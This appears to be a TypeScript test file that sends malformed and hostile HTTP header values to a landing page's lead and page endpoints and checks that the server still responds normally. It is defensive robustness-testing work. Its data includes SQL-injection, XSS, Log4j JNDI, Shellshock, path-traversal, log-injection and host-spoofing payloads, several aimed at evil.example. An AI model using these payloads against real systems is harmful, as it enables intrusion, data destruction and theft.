import { callNames, callOf, encode, oddCall, sampleOf } from '../calls.ts';
import { type Family, type HostileCase, lead, page } from '../hostile-case.ts';
import { request } from '../wire.ts';

/** Header by header what nobody sends; a lead is taken all the same, because none of it is the visitor's fault. */
const values: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'idempotency-key': {
    'nothing at all': '',
    'one character': 'x',
    'twelve thousand characters': 'k'.repeat(12_000),
    'the end of an SQL statement': "'; DROP TABLE leads;--",
    'a list': 'a, b, c',
    'foreign bytes': '\xff\xfe\x80\x85',
    'a name that every object has': '__proto__',
    'a script': '<script>alert(1)</script>',
  },
  referer: {
    'an address that runs': 'javascript:alert(document.cookie)',
    data: 'data:text/html,<script>alert(1)</script>',
    'a file': 'file:///etc/passwd',
    'no address': '://%zz[',
    'a host that never ends': 'http://[::',
    'twelve thousand characters': `https://larkfield.example/lp8/?${'x'.repeat(12_000)}`,
    'a way up': 'https://larkfield.example/../../../../etc/passwd',
    'what is hidden': 'https://larkfield.example/.build/server.json',
    'a script': 'https://larkfield.example/lp8/?"><script>alert(1)</script>',
    'the call itself': 'https://larkfield.example/api/leads',
  },
  'user-agent': {
    'nothing at all': '',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not become anything else here, either
    'a lookup of Log4j': '${jndi:ldap://evil.example/a}',
    'a shell': '() { :; }; echo vulnerable',
    'twelve thousand characters': 'Mozilla/5.0 '.repeat(1000),
    'a line of the log': '"}\\n{"level":"fatal"}',
    'foreign bytes': '\xff\xfe\xc3\x28',
  },
  'x-forwarded-for': {
    'nothing at all': '',
    'no address': 'unknown',
    'a thousand addresses': Array.from({ length: 1000 }, (_, index) => `10.0.${index % 256}.1`).join(','),
    'a script': '<script>alert(1)</script>',
    'the end of an SQL statement': "127.0.0.1'; DROP TABLE leads;--",
    'an address with zeros': '0127.0000.0000.0001',
    'an address of IPv6 with a zone': 'fe80::1%eth0',
    'an address of IPv6 that never ends': '1:2:3:4:5:6:7:8:9',
    'a port that is none': '203.0.113.7:99999999',
    'only commas': ',,,,,,',
    brackets: '[[::1]]:80',
  },
  'x-forwarded-proto': {
    'an address that runs': 'javascript',
    many: 'https,http,https,ftp',
    'a line': 'https; upgrade',
  },
  'x-request-id': {
    'a script': '<script>alert(1)</script>',
    'twelve thousand characters': 'a'.repeat(12_000),
    'a line of the log': '","level":"fatal","x":"',
    blanks: 'a b\tc',
    'foreign bytes': '\xff\x80',
    'a way up': '../../../../tmp/x',
  },
  cookie: {
    'twelve thousand characters': 'a=b;'.repeat(3000),
    'no cookie': ';;;===,,,',
    'a name that every object has': '__proto__=1; constructor=2',
  },
  'content-language': { 'foreign bytes': '\xff\xfe' },
  'accept-language': { 'a way up': '../../../etc/passwd' },
  origin: {
    null: 'null',
    'an address that runs': 'javascript:alert(1)',
    'another site': 'https://evil.example',
  },
  forwarded: { 'quotes that never end': 'for="[2001:db8::1;proto="https' },
  proxy: { 'another host': 'http://evil.example:8080' },
  'x-original-url': { 'what is hidden': '/.env' },
  'x-rewrite-url': { 'what is hidden': '/.build/server.json' },
  'x-forwarded-host': { 'another host': 'evil.example' },
  'x-forwarded-prefix': { 'another host': '//evil.example' },
  'content-disposition': { 'a way up': 'attachment; filename="../../a"' },
  'content-range': { 'a part': 'bytes 0-1/2' },
  'x-http-method-override': { 'another method': 'DELETE' },
  authorization: { 'no word': 'Bearer '.padEnd(5000, 'x') },
  expect: { 'to go on': '100-continue' },
};

const onLeads: HostileCase[] = Object.entries(values).flatMap(([header, byName], place) =>
  Object.entries(byName).map(([what, value], index) => {
    const call = callNames[(place + index) % callNames.length] ?? 'email';
    return {
      name: `${what} in the header ${header} of the ${call} call`,
      wire: (visitor) =>
        oddCall(call, visitor, { body: encode(call, sampleOf(call, visitor)), headers: { [header]: value } }),
      expected: lead,
    };
  }),
);

/** Names that are no variable of ours but somebody's in JavaScript. */
const names: HostileCase[] = ['__proto__', 'constructor', 'toString', 'then', '0', "!#$%&'*+-.^_`|~"].map(
  (name) => ({
    name: `a header by the name ${name}`,
    wire: (visitor) => {
      const { bytes } = callOf('email', visitor, encode('email', sampleOf('email', visitor)));
      return { bytes: Buffer.from(bytes.toString('latin1').replace('\r\n', `\r\n${name}: x\r\n`), 'latin1') };
    },
    expected: lead,
  }),
);

const onPages: HostileCase[] = (
  [
    ['accept-encoding', 'gzip;q=NaN, br;q=-1, *;q=1e999, identity;q=0'],
    ['accept-encoding', 'br;q='.repeat(2000)],
    ['accept-encoding', ';;;,,,q=1'],
    ['if-none-match', `${'"a", '.repeat(2000)}W/`],
    ['if-none-match', '"'],
    ['if-modified-since', 'yesterday'],
    ['range', 'bytes=-1'],
    ['range', `bytes=${'0-0,'.repeat(2000)}1-1`],
    ['range', 'lines=9999999999999999999-'],
    ['if-range', '"x"'],
    ['accept', '*/*;q=NaN'.repeat(1000)],
    ['connection', 'keep-alive, host, content-length, __proto__'],
    ['upgrade', 'websocket'],
    ['te', 'trailers, deflate;q=0.5'],
    ['max-forwards', '-1'],
    ['x-forwarded-proto', 'https'],
    ['cache-control', 'max-age=-99999999999999999999'],
    ['referer', '//\\evil.example'],
  ] as const
).map(([header, value]) => ({
  name: `${value.slice(0, 40)} in the header ${header} of a page`,
  wire: () => request({ method: 'GET', target: '/lp8/', headers: { [header]: value } }),
  expected: page,
}));

export const headers: Family = {
  name: 'headers',
  cases: [...onLeads, ...names, ...onPages],
};
